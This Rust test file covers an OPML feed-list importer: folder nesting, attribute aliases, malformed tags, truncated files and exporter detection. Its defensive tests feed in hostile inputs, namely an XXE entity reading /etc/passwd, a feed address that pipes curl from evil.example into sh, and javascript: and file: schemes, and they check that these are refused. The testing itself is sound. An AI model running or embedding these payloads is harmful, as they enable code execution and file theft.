//! Takes lists as programs and people really write them, holds what is read from each, and the line it stands on.

use super::super::{Harvest, harvest};
use crate::model::Value;

/// `line address "title" folder/folder | other folder`, one feed a line.
fn told(harvest: &Harvest) -> String {
    let line = |found: &super::super::Found| {
        let title = found.title.as_ref().map(|title| format!(" {title:?}")).unwrap_or_default();
        let folders: Vec<String> = found.folders.iter().map(|folder| folder.0.join("/")).collect();
        format!("{} {}{title} {}", found.line, found.address, folders.join(" | ")).trim_end().to_owned()
    };
    harvest.found.iter().map(line).collect::<Vec<_>>().join("\n")
}

fn flaws(harvest: &Harvest) -> Vec<(u32, &str)> {
    harvest.flaws.iter().map(|flaw| (flaw.line.unwrap_or(0), flaw.why.key.as_str())).collect()
}

fn read(text: &str) -> Harvest {
    let (dialect, harvest) = harvest("subscriptions.opml", text.as_bytes()).unwrap();
    assert_eq!(dialect.name, "opml", "{text:?}");
    harvest
}

/// The body of a list, which begins on line 2 of its file.
fn check(body: &str, expect: &str) {
    let harvest = read(&format!("<opml version=\"2.0\"><body>\n{body}\n</body></opml>"));
    assert_eq!(told(&harvest), expect, "{body}");
    assert_eq!(flaws(&harvest), [], "{body}");
    assert_eq!(harvest.partial, None, "{body}");
}

#[test]
fn folders_nest_at_any_depth() {
    check(
        concat!(
            "<outline text='News'><outline text='France'><outline text='Lyon'>\n",
            "<outline type='rss' text='A' xmlUrl='https://a.example/feed'/>\n",
            "</outline></outline><outline text='B' xmlUrl='https://b.example/feed'></outline></outline>\n",
            "<outline text='C' xmlUrl='https://c.example/feed'/>",
        ),
        "3 https://a.example/feed \"A\" News/France/Lyon\n4 https://b.example/feed \"B\" News\n5 https://c.example/feed \"C\"",
    );
    let deep = format!(
        "{}<outline xmlUrl='https://a.example/'/>{}",
        "<outline text='d'>".repeat(300),
        "</outline>".repeat(300)
    );
    let harvest = read(&format!("<opml><body>{deep}</body></opml>"));
    assert_eq!(harvest.found[0].folders[0].0.len(), 300);
}

#[test]
fn the_same_feed_in_several_folders_is_one_source_with_several_folders() {
    let text = "<opml><body><outline text='A'><outline xmlUrl='https://a.example/feed '/></outline>\n\
                <outline text='B'><outline text='Later' xmlUrl=' https://a.example/feed' htmlUrl='https://a.example/'/>\n\
                <outline xmlUrl='https://a.example/feed'/></outline></body></opml>";
    let harvest = read(text);
    assert_eq!(told(&harvest), "1 https://a.example/feed \"Later\" A | B");
    assert_eq!(harvest.found[0].site.as_deref(), Some("https://a.example/"));
    assert_eq!(harvest.repeated, 2);
}

#[test]
fn attribute_names_are_read_in_any_case_and_under_their_other_names() {
    check("<OUTLINE TEXT='A' XMLURL='https://a.example/feed' HtmlURL=''/>", "2 https://a.example/feed \"A\"");
    check("<outline text='A' url='https://a.example/feed' type='link'/>", "2 https://a.example/feed \"A\"");
    check("<outline text='A' xmlurl = \"https://a.example/feed\" />", "2 https://a.example/feed \"A\"");
    check("<opml:outline text='A' xmlUrl='https://a.example/feed'/>", "2 https://a.example/feed \"A\"");
}

#[test]
fn the_title_is_title_then_text_and_never_the_address() {
    check("<outline text='text' title=' title ' xmlUrl='https://a.example/'/>", "2 https://a.example/ \"title\"");
    check("<outline text='text' title=' ' xmlUrl='https://a.example/'/>", "2 https://a.example/ \"text\"");
    check("<outline title='only' xmlUrl='https://a.example/'/>", "2 https://a.example/ \"only\"");
    check("<outline text='https://a.example/' xmlUrl='https://a.example/'/>", "2 https://a.example/");
    check("<outline xmlUrl='https://a.example/'/>", "2 https://a.example/");
}

#[test]
fn a_folder_is_an_outline_without_an_address_whatever_its_type() {
    check("<outline type='rss' text='F'><outline xmlUrl='https://a.example/'/></outline>", "2 https://a.example/ F");
    check("<outline title='F'><outline xmlUrl='https://a.example/'/></outline>", "2 https://a.example/ F");
    check("<outline><outline xmlUrl='https://a.example/'/></outline>", "2 https://a.example/");
    check("<outline text='F' xmlUrl=''><outline xmlUrl='https://a.example/'/></outline>", "2 https://a.example/ F");
    // Loose feeds first, folders after them (Feedbin); other elements in the body (Handy News); vfolders (Liferea).
    check(
        concat!(
            "<outline xmlUrl='https://a.example/'/><div class='x'><br></div>\n",
            "<outline type='vfolder' text='Unread'><outline type='rule' rule='unread'/></outline>\n",
            "<outline text='F'><note/><outline xmlUrl='https://b.example/'/></outline>",
        ),
        "2 https://a.example/\n4 https://b.example/ F",
    );
}

#[test]
fn categories_are_folders() {
    check(
        "<outline xmlUrl='https://a.example/' category='tech,vie locale'/>",
        "2 https://a.example/ tech | vie locale",
    );
    check("<outline xmlUrl='https://a.example/' category='/a/b,c'/>", "2 https://a.example/ a/b | c");
    check("<outline text='F'><outline xmlUrl='https://a.example/' category='F'/></outline>", "2 https://a.example/ F");
}

#[test]
fn the_folder_that_thunderbird_makes_around_each_feed_says_nothing() {
    let text = "<opml version='1.0' xmlns:fz='urn:forumzilla:'><head><title>Thunderbird OPML Export - Feeds</title></head><body>\n\
                <outline title='Presse'><outline title='A' text='A' fz:options='{\"a\":1}'>\n\
                <outline type='rss' title='A' text='A' xmlUrl='https://a.example/'/></outline>\n\
                <outline title='Two'><outline title='Two' xmlUrl='https://b.example/'/><outline title='C' xmlUrl='https://c.example/'/></outline>\n\
                </outline><outline title='D'><outline title='D' xmlUrl='https://d.example/'/></outline></body></opml>";
    let harvest = read(text);
    let expect = "3 https://a.example/ \"A\" Presse\n4 https://b.example/ \"Two\" Presse/Two\n\
                  4 https://c.example/ \"C\" Presse/Two\n5 https://d.example/ \"D\"";
    assert_eq!(told(&harvest), expect);
    assert_eq!(harvest.origin.as_deref(), Some("Thunderbird"));
    check(
        "<outline text='A'><outline text='A' xmlUrl='https://a.example/'/></outline>",
        "2 https://a.example/ \"A\" A",
    );
}

#[test]
fn entities_of_html_are_read_and_those_of_the_file_are_not() {
    check(
        "<outline text='Q&amp;A &raquo; caf&#233; &#146;' xmlUrl='https://a.example/?a=1&amp;b=2'/>",
        "2 https://a.example/?a=1&b=2 \"Q&A » café ’\"",
    );
    check(
        "<outline text='R&D & co' xmlUrl='https://a.example/?a=1&b=2'/>",
        "2 https://a.example/?a=1&b=2 \"R&D & co\"",
    );
    let text = "<?xml version='1.0'?><!DOCTYPE opml [<!ENTITY x SYSTEM 'file:///etc/passwd'><!ENTITY y '&x;&x;'>]>\n\
                <opml><body><outline text='&x;&y;' xmlUrl='https://a.example/'/></body></opml>";
    assert_eq!(told(&read(text)), "2 https://a.example/ \"&x;&y;\"");
}

#[test]
fn a_tag_that_is_written_badly_costs_no_other() {
    let next = "\n<outline text='N' xmlUrl='https://n.example/'/>";
    let check =
        |tag: &str, expect: &str| check(&format!("{tag}{next}"), &format!("{expect}\n3 https://n.example/ \"N\""));
    check(
        r#"<outline text="The "best" blog" xmlUrl="https://a.example/"/>"#,
        "2 https://a.example/ \"The \\\"best\\\" blog\"",
    );
    check(r#"<outline text="a < b > c" xmlUrl="https://a.example/"/>"#, "2 https://a.example/ \"a < b > c\"");
    check(r#"<outline text="a"xmlUrl="https://a.example/"/>"#, "2 https://a.example/ \"a\"");
    check(r#"<outline text="a" checked xmlUrl="https://a.example/"/>"#, "2 https://a.example/ \"a\"");
    check(r#"<outline text=a xmlUrl=https://a.example/feed/>"#, "2 https://a.example/feed \"a\"");
    check(r#"<outline text="News xmlUrl="https://a.example/"/>"#, "2 https://a.example/ \"News\"");
    check(r#"<outline text="a" xmlUrl="https://a.example/></outline>"#, "2 https://a.example/> \"a\"");
    // Seen in a list of podcasts: descriptions pasted as HTML, and in quotes.
    let html = r#"<outline text="a" title="a" description="by <a href="https://b.example" target="_blank" title="us">us</a>. <img src="x"/> So." xmlUrl="https://a.example/" type="rss" />"#;
    check(html, "2 https://a.example/ \"a\"");
    check(
        r#"<outline text="a" description=""'Bold' it is." - A paper. By us." xmlUrl="https://a.example/"/>"#,
        "2 https://a.example/ \"a\"",
    );
    check(r#"<outline text="a" xmlUrl="https://a.example/" "#, "2 https://a.example/ \"a\"");
}

#[test]
fn schemes_other_than_http_are_refused_by_name_with_their_line() {
    let addresses = [
        "|curl evil.example | sh",
        "exec:~/x",
        "filter:~/x:https://a.example/",
        "newsletter:x",
        "javascript:alert(1)",
        "JAVA&#10;SCRIPT:alert(1)",
        "file:///etc/passwd",
        "hhttps://a.example/",
    ];
    let lines: Vec<String> = addresses.iter().map(|at| format!("<outline text='x' xmlUrl='{at}'/>")).collect();
    let harvest = read(&format!("<opml><body>\n{}\n</body></opml>", lines.join("\n")));
    assert_eq!(harvest.found, []);
    let named: Vec<(u32, String)> = harvest
        .flaws
        .iter()
        .map(|flaw| match flaw.why.values.get("scheme") {
            Some(Value::Text(scheme)) => (flaw.line.unwrap(), scheme.clone()),
            other => panic!("{flaw:?}: {other:?}"),
        })
        .collect();
    let expect = ["|", "exec:", "filter:", "newsletter:", "javascript:", "javascript:", "file:", "hhttps:"];
    assert_eq!(named, (2..).zip(expect.map(str::to_owned)).collect::<Vec<_>>());
}

#[test]
fn what_is_no_feed_is_named() {
    let check = |tag: &str, expect: &str| {
        let harvest = read(&format!("<opml><body>\n{tag}\n</body></opml>"));
        assert_eq!(flaws(&harvest), [(2, expect)], "{tag}");
        assert_eq!(harvest.found, [], "{tag}");
    };
    check("<outline type='rss' text='A'/>", "flaw.no_address");
    check("<outline text='A' xmlUrl=''/>", "flaw.no_address");
    check("<outline text='A' xmlUrl=' '></outline>", "flaw.no_address");
    check("<outline type='rss' text='A' htmlUrl='https://a.example/'></outline>", "flaw.no_address");
    check("<outline type='include' text='A' url='https://a.example/list'/>", "flaw.other_list");
    check("<outline type='link' text='A' url='https://a.example/list.opml?x'/>", "flaw.other_list");
}

#[test]
fn a_file_that_is_cut_off_gives_what_was_whole_and_says_where_it_ends() {
    let whole = "<opml><head><title>T</title></head><body>\n<outline text='F'>\n<outline xmlUrl='https://a.example/'/>\n\
                 <outline xmlUrl='https://b.example/'/>\n</outline></body></opml>";
    let check = |until: &str, found: usize, line: Option<u32>| {
        let cut = whole.get(..whole.find(until).unwrap() + until.len()).unwrap();
        let harvest = read(cut);
        assert_eq!(harvest.found.len(), found, "{cut}");
        assert_eq!(harvest.partial.and_then(|flaw| flaw.line), line, "{cut}");
    };
    check("</opml>", 2, None);
    check("</body>", 2, None);
    check("</outline>", 2, Some(5));
    check("https://b.exa", 1, Some(4));
    check("https://a.example/'/>", 1, Some(3));
    check("<outline", 0, Some(2));
    let beginning = harvest("x.opml", &whole.as_bytes()[whole.find("<outline xml").unwrap()..]).unwrap().1;
    assert_eq!((beginning.found.len(), beginning.partial.unwrap().line), (2, Some(1)));
}

#[test]
fn what_precedes_the_list_does_not_hide_it() {
    let list = "<opml><body><outline xmlUrl='https://a.example/'/></body></opml>";
    let check = |before: &str, line: u32| {
        assert_eq!(told(&read(&format!("{before}{list}"))), format!("{line} https://a.example/"))
    };
    check("\n\n<!-- made <by> hand -->\n", 4);
    check("<?xml version='1.0' encoding='x-unknown'?>\n", 2);
    check("<?xml-stylesheet href='x'?><!DOCTYPE opml>\n", 2);
    check("<br />\n<b>Warning</b>: something\n", 3);
    check("Warning: something\n", 2);
}

#[test]
fn the_program_that_wrote_the_file_is_named() {
    let check = |head: &str, expect: Option<&str>| {
        let harvest = read(&format!("<opml {head}<body><outline xmlUrl='https://a.example/'/></body></opml>"));
        assert_eq!(harvest.origin.as_deref(), expect, "{head}");
    };
    check("version='1.0'><head><title>Camille subscriptions in feedly Cloud</title></head>", Some("Feedly"));
    check("><head><title>Camille subscriptions in Google Reader</title></head>", Some("Google Reader"));
    check("><head><title>Subscriptions from Inoreader [https://www.inoreader.com]</title></head>", Some("Inoreader"));
    check("><head><title>newsboat - Exported Feeds</title></head>", Some("newsboat"));
    check("xmlns:frss='https://freshrss.org/opml'><head><title>Moi</title></head>", Some("FreshRSS"));
    check("><head><title>Mes flux</title></head>", None);
}

#[test]
fn cookies_and_headers_of_freshrss_are_never_shown() {
    let harvest = read(
        "<opml xmlns:frss='x'><body><outline text='A' xmlUrl='gopher://a' frss:CURLOPT_COOKIE='secret'/></body></opml>",
    );
    assert!(!format!("{harvest:?}").contains("secret"));
}

#[test]
fn a_million_open_outlines_exhaust_nothing() {
    let harvest =
        read(&format!("<opml><body>{}<outline xmlUrl='https://a.example/'/>", "<outline text='d'>".repeat(100_000)));
    assert_eq!(harvest.found[0].folders[0].0.len(), super::DEEPEST);
    assert_eq!(flaws(&harvest), [(1, "flaw.too_deep")]);
    assert!(harvest.partial.is_some());
}

#[test]
fn a_saved_search_is_named_as_what_it_is() {
    let text = "<opml><body>\n<outline title='Unread' type='vfolder' xmlUrl='vfolder'>\n\
                <outline type='rule' text='Read status' rule='unread'/>\n</outline>\n\
                <outline title='Later' type='vfolder'><outline xmlUrl='https://a.example/feed'/></outline></body></opml>";
    let (_, harvest) = harvest("x.opml", text.as_bytes()).unwrap();
    let flaws: Vec<_> =
        harvest.flaws.iter().map(|f| (f.line.unwrap(), f.subject.as_str(), f.why.key.as_str())).collect();
    assert_eq!(flaws, [(2, "Unread", "flaw.saved_search")]);
    assert_eq!((harvest.found.len(), harvest.found[0].folders.len()), (1, 0));
}

#[test]
fn a_page_that_freshrss_reads_by_xpath_is_a_list_where_css_can_say_the_same() {
    let text = "<opml xmlns:frss='x'><body>\n<outline text='News' type='HTML+XPath' xmlUrl='https://a.example/news' \
        frss:xPathItem='//div[@class=&quot;news&quot;]' frss:xPathItemTitle='descendant::h2' \
        frss:xPathItemUri='./a/@href' frss:xPathItemThumbnail='img/@src'/>\n\
        <outline text='Odd' type='HTML+XPath' xmlUrl='https://b.example/' frss:xPathItem='//li[1]'/>\n\
        <outline text='Half' type='HTML+XPath' xmlUrl='https://c.example/' frss:xPathItem='//li' frss:xPathItemUri='../a'/>\n\
        <outline text='Json' type='JSON+DotNotation' xmlUrl='https://d.example/' frss:jsonItem='items'/></body></opml>";
    let harvest = read(text);
    let found: Vec<&str> = harvest.found.iter().map(|found| found.address.as_str()).collect();
    assert_eq!(found, ["https://a.example/news#pepites:item=div%5Bclass%3D%22news%22%5D&title=h2&link=a"]);
    assert_eq!(harvest.found[0].title.as_deref(), Some("News"));
    assert_eq!(flaws(&harvest), [(3, "flaw.xpath"), (4, "flaw.xpath"), (5, "flaw.xpath")]);
}
